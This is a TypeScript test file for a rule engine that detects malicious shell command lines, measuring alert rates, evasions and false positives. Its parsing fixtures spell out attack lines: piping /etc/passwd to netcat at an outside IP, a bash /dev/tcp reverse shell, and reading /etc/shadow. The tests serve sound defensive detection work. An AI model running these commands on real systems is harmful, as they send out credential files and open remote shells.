import { existsSync } from "node:fs";
import { describe, expect, test } from "vitest";
import { builtinRules } from "../builtin.ts";
import { compileRules } from "../engine.ts";
import { halfOf, readAtomic, readLines, readRenumbering, readTrace } from "./data.ts";
import { evasions } from "./evasions.ts";
import { eventsOf, recorded } from "./forms.ts";
import { type Measured, measure, type Share } from "./measure.ts";
import { details, summary } from "./report.ts";
import { startsOf } from "./shell.ts";

const argvs = (line: string) => startsOf(line).map(({ argv }) => argv.join(" "));

test.each([
  ["cat /etc/passwd | nc 198.51.100.7 53 && id", ["cat /etc/passwd", "nc 198.51.100.7 53", "id"]],
  ["curl -s http://x/$(whoami) > /tmp/a 2>&1; chmod +x '/tmp/a b'", ["whoami", "curl -s http://x/$(whoami)", "chmod +x /tmp/a b"]],
  ["cd /tmp; export A=1; B=2 make -j2", ["make -j2"]],
  ["sudo -u pi sh -c 'id; ls \"a b\"'", ['sudo -u pi sh -c id; ls "a b"', 'sh -c id; ls "a b"', "id", "ls a b"]],
  ["if grep -q x f; then rm f; fi # done", ["grep -q x f", "rm f"]],
  ["echo only the shell does this", []],
  ["bash -i >& /dev/tcp/198.51.100.7/443 0>&1", ["bash -i"]],
  ["echo `uname -r", ["uname -r"]],
])("the programs that %j starts", (line, expected) => {
  expect(argvs(line)).toEqual(expected);
});

test("a line can be nested and repeated as often as somebody likes", () => {
  expect(startsOf("$(".repeat(10_000)).length).toBeLessThanOrEqual(64);
  expect(startsOf("sudo ".repeat(10_000)).length).toBeLessThanOrEqual(64);
  expect(startsOf("id;".repeat(10_000)).length).toBe(64);
});

const texts = (events: ReturnType<typeof eventsOf>) =>
  events.map(({ body }) => ("process" in body && body.process ? [body.process.exe, ...body.process.argv] : []));

test("a device sees a shell where a line needs one, and each program", () => {
  expect(texts(eventsOf("id | wc -l", "device"))).toEqual([
    ["/usr/bin/bash", "bash", "-c", "id | wc -l"],
    ["/usr/bin/id", "id"],
    ["/usr/bin/wc", "wc", "-l"],
  ]);
  expect(texts(eventsOf("ls -l", "device"))).toEqual([["/usr/bin/ls", "ls", "-l"]]);
  expect(texts(eventsOf("ls -l", "shell"))).toEqual([["/usr/bin/dash", "sh", "-c", "ls -l"]]);
  expect(texts(eventsOf("id | wc -l", "words"))).toEqual([["/usr/bin/id", "id", "|", "wc", "-l"]]);
  expect(texts([recorded("/bin/sh -c cat >&7")])).toEqual([["/bin/sh", "/bin/sh", "-c", "cat >&7"]]);
});

test("near-duplicates are on one side, and the sides are of a size", () => {
  const halves = Array.from({ length: 2000 }, (_, at) => halfOf(`g${at.toString(16)}`));
  expect(halves.filter((half) => half === "A").length).toBeGreaterThan(850);
  expect(halves.filter((half) => half === "B").length).toBeGreaterThan(850);
});

test("every disguise changes a line", () => {
  for (const [name, evasion] of Object.entries(evasions)) expect(evasion("cat /etc/shadow"), name).not.toBe("cat /etc/shadow");
});

const trace = ["./trace.ndjson", "../../models/train/cmdline-trace.ndjson"].flatMap((path) =>
  readTrace(new URL(path, import.meta.url).pathname),
);

test("no shipped rule alerts on more than 2 of 1,000 program starts of honest work", () => {
  const { trace: share } = measured({ lines: [], atomic: [], trace, renumbered: new Map() });
  expect(share.lines).toBeGreaterThan(1500);
  expect(share.alerts / share.lines).toBeLessThanOrEqual(0.002);
});

const data = new URL("../../../shared/data", import.meta.url).pathname;

function measured(input: Parameters<typeof measure>[2]): Measured {
  const rules = builtinRules();
  return measure(compileRules(rules), rules, input);
}

const rate = ({ alerts, lines }: Share) => alerts / lines;

// A little below what was measured when the rules were written: what makes it worse is seen here.
describe.skipIf(!existsSync(data))(`labelled command lines (skipped where ${data} is not there)`, () => {
  const result = existsSync(data)
    ? measured({ lines: readLines(data), atomic: readAtomic(data), trace, renumbered: readRenumbering(data) })
    : undefined;

  test.each([
    ["device", 0.8],
    ["shell", 0.78],
    ["words", 0.78],
  ] as const)("in the form %s, overt attacks of the half that nobody looked at alert", (form, floor) => {
    const { overt, benign } = result!.kinds[form];
    expect(rate(overt.B)).toBeGreaterThan(floor);
    expect(rate(benign.both)).toBeLessThan(0.005);
    expect(rate(benign.B)).toBeLessThan(0.006);
  });

  test("recorded program starts of honest work stay below 2 in 1,000", () => {
    expect(rate(result!.kinds.device["benign exec"].both)).toBeLessThanOrEqual(0.002);
  });

  test("disguises do not help an attacker", () => {
    for (const { name, share } of result!.evasions) expect(rate(share), name).toBeGreaterThan(0.7);
  });

  test("the tables name every source and every rule that matched", () => {
    const text = `${summary(result!)}\n${details(result!)}`;
    for (const { source } of result!.sources) expect(text).toContain(source);
    for (const { rule, overt } of result!.rules) if (overt > 0) expect(text).toContain(rule.file.replace(/^builtin\//, ""));
  });
});
